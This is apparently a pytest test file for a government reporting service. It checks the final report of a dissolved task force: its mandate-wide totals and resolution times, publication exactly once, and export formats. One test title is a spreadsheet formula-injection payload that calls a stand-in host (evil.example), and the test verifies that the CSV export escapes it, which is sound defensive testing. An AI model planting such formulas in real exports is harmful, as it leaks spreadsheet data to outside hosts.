"""The final report of a dissolved task force, on the real database: due only from the
dissolution date, compiled over the whole mandate (totals, resolution times, what went
to central level, open items handed over with their agency) and claimed exactly once
by two concurrent publishers."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from docx import Document

from services.reporting import jobs, logic, metrics, store, usecases
from services.reporting import main as reporting_main
from services.reporting.consumers import ReportingHandlers
from shared import db
from shared.calendar import TZ, ManualClock
from shared.events import AgencyLevel, AssignmentRole, Status, WeeklyReport
from shared.metrics import new_registry
from shared.provinces import ConfigHolder, default_config_dir, set_dissolved_on
from tests.reporting.conftest import assigned, env, received, status

pytestmark = [pytest.mark.db]

DISSOLVED = date(2026, 11, 30)
MON = datetime(2026, 11, 23, 9, tzinfo=TZ)
CENTRAL = "central.bo-cong-thuong"


@pytest.fixture
def dissolved(tmp_path: Path) -> ConfigHolder:
    d = tmp_path / "provinces"
    shutil.copytree(default_config_dir(), d)
    set_dissolved_on(d / "binh-duong.yaml", DISSOLVED)
    return ConfigHolder(d)


def publisher(pool: db.Pool, holder: ConfigHolder, clock: ManualClock) -> jobs.WeeklyPublisher:
    return jobs.WeeklyPublisher(pool=pool, config=holder, clock=clock,
                                   metrics=metrics.PublishMetrics.create(new_registry("t")),
                                   base_url="http://x")


async def test_the_final_report_covers_the_mandate_and_is_published_once(
    handlers: ReportingHandlers, pool: db.Pool, database_url: str, dissolved: ConfigHolder
) -> None:
    quick, slow, up, still = (received(MON + timedelta(minutes=i), n=i) for i in range(4))
    for d in (quick, slow, up, still):
        await handlers.on_received([env(d)], None)  # type: ignore[arg-type]
        await handlers.on_assigned([env(assigned(d, d.received_at))], None)  # type: ignore[arg-type]
    await handlers.on_status([env(status(quick, Status.RESOLVED, quick.received_at
                                         + timedelta(hours=5)))], None)  # type: ignore[arg-type]
    await handlers.on_status([env(status(slow, Status.RESOLVED, slow.received_at
                                         + timedelta(hours=10)))], None)  # type: ignore[arg-type]
    lead = assigned(up, up.received_at)
    await handlers.on_assigned([env(assigned(
        up, MON + timedelta(days=1), agency=CENTRAL, level=AgencyLevel.CENTRAL,
        role=AssignmentRole.ESCALATION, replaces=lead.assignment_id))],
        None)  # type: ignore[arg-type]

    # The day before the dissolution: weekly reports only, no final report.
    clock = ManualClock(datetime(2026, 11, 29, 10, tzinfo=TZ))
    assert await publisher(pool, dissolved, clock).tick() >= 0
    async with pool.acquire() as conn:
        assert await store.stored_report(conn, task_force="binh-duong", week_label="final") is None

    clock.advance(timedelta(days=1))
    other = await db.create_pool(database_url, schema="reporting", max_size=2)
    pubs = [publisher(p, dissolved, clock) for p in (pool, other)]
    try:
        await asyncio.gather(*(p.publish_final(dissolved.current["binh-duong"]) for p in pubs),
                             *(p.tick() for p in pubs))
    finally:
        await other.close()
    final_id = usecases.final_event_id("binh-duong")
    async with pool.acquire() as conn:
        outbox = await conn.fetchval("SELECT count(*) FROM outbox WHERE event_id = $1", final_id)
        finals = await conn.fetchval("SELECT count(*) FROM weekly_reports WHERE week_label ="
                                     " 'final'")
        stored = await store.stored_report(conn, task_force="binh-duong", week_label="final")
    assert (outbox, finals) == (1, 1)  # only binh-duong is dissolved, and it once
    assert stored is not None
    r = WeeklyReport.model_validate(stored)
    assert r.final and r.week_label == "final" and r.page_url == "http://x/reports/binh-duong/final"
    assert r.window_start == datetime(2021, 7, 16, tzinfo=TZ)  # effective_from, local midnight
    assert r.window_end == clock.now()
    total = logic.total_row(r.rows)
    assert total is not None
    assert (total.received, total.resolved, total.open, total.escalated_central) == (4, 2, 2, 1)
    # percentile_cont over 5 h and 10 h
    assert (total.median_resolution_hours, total.p90_resolution_hours) == (7.5, 9.5)
    assert [(i.tracking_code, i.agency_id) for i in r.handed_over] == [
        (up.tracking_code, CENTRAL), (still.tracking_code, "binh-duong.bql-kcn")]
    assert [i.tracking_code for i in r.central_items] == [up.tracking_code]
    assert r.members_missing == [] and r.urgent_items == []

    # Later ticks (another day, a restart) find it done.
    clock.advance(timedelta(days=3))
    await publisher(pool, dissolved, clock).tick()
    async with pool.acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM outbox WHERE event_id = $1",
                                   final_id) == 1


async def test_no_final_report_for_a_task_force_still_in_office(
    handlers: ReportingHandlers, pool: db.Pool
) -> None:
    clock = ManualClock(datetime(2026, 12, 1, 10, tzinfo=TZ))
    await publisher(pool, ConfigHolder(), clock).tick()
    async with pool.acquire() as conn:
        assert await conn.fetchval(
            "SELECT count(*) FROM weekly_reports WHERE week_label = 'final'") == 0


async def test_the_final_report_is_served_only_once_the_task_force_is_dissolved(
    handlers: ReportingHandlers, pool: db.Pool, dissolved: ConfigHolder
) -> None:
    import httpx
    from fastapi import FastAPI

    from services.reporting import api
    from shared import auth

    # A title a spreadsheet would take for a formula: stored and shown as typed, exported
    # as text.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    d = received(MON, n=7, title=formula)
    await handlers.on_received([env(d)], None)  # type: ignore[arg-type]
    await handlers.on_assigned([env(assigned(d, MON))], None)  # type: ignore[arg-type]
    clock = ManualClock(datetime(2026, 11, 30, 8, tzinfo=TZ))
    async with pool.acquire() as conn:
        await auth.migrate(conn)
        _, token = await auth.insert_token(conn, kind=auth.TokenKind.OPERATOR,
                                           subject_id="ops-desk")

    def client(holder: ConfigHolder) -> httpx.AsyncClient:
        side = api.ReadSide(db=lambda: pool, config=holder, clock=clock, base_url="http://x")
        app = FastAPI()
        reporting_main.mount(app, side)
        return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://r",
                                 headers={"Authorization": f"Bearer {token}"})

    async with client(ConfigHolder()) as c:  # the shipped files: nobody is dissolved
        assert (await c.get("/v1/reports/binh-duong/final.json")).status_code == 404
        assert (await c.get("/reports/binh-duong/final")).status_code == 404
        assert (await c.get("/v1/reports/binh-duong/finale.json")).status_code == 422
    async with client(dissolved) as c:
        r = await c.get("/v1/reports/binh-duong/final.json")
        assert r.status_code == 200 and r.headers["X-Thaogo-Report-State"] == "preview"
        assert [i["tracking_code"] for i in r.json()["handed_over"]] == [d.tracking_code]
        await publisher(pool, dissolved, clock).tick()
        r = await c.get("/v1/reports/binh-duong/final.json")
        assert r.headers["X-Thaogo-Report-State"] == "published" and r.json()["final"]
        rows = (await c.get("/v1/reports/binh-duong/final.csv")).text.splitlines()
        assert rows[0].startswith("dimension,value,received")
        assert any(row.startswith("total,all,1,0,1,") for row in rows), rows
        handed = (await c.get("/v1/reports/binh-duong/final/handed-over.csv")).text
        assert handed.splitlines()[0] == ",".join(api.ITEM_COLUMNS)
        assert f"{d.tracking_code}," in handed and "binh-duong.bql-kcn" in handed
        (item,) = list(csv.DictReader(io.StringIO(handed)))
        assert item["title"] == "'" + formula
        assert r.json()["handed_over"][0]["title"] == formula
        # The same official form as a week's report (tests/reporting/test_document_unit.py).
        docx = await c.get("/v1/reports/binh-duong/final.docx")
        assert docx.status_code == 200 and docx.headers["X-Thaogo-Report-State"] == "published"
        text = " ".join(p.text for p in Document(io.BytesIO(docx.content)).paragraphs)
        assert "Tổng kết hoạt động của Tổ công tác" in text and "TỔ TRƯỞNG" in " ".join(
            cell.text for t in Document(io.BytesIO(docx.content)).tables
            for row in t.rows for cell in row.cells)
        pdf = await c.get("/v1/reports/binh-duong/final.pdf")
        assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
        xlsx = await c.get("/v1/reports/binh-duong/final.xlsx")
        assert "Hồ sơ bàn giao" in openpyxl.load_workbook(io.BytesIO(xlsx.content)).sheetnames
        page = await c.get("/reports/binh-duong/final?lang=en")
        assert page.status_code == 200
        assert "Final report of the mandate" in page.text and d.tracking_code in page.text
        assert 'id="handed-over"' in page.text and 'id="trend"' not in page.text
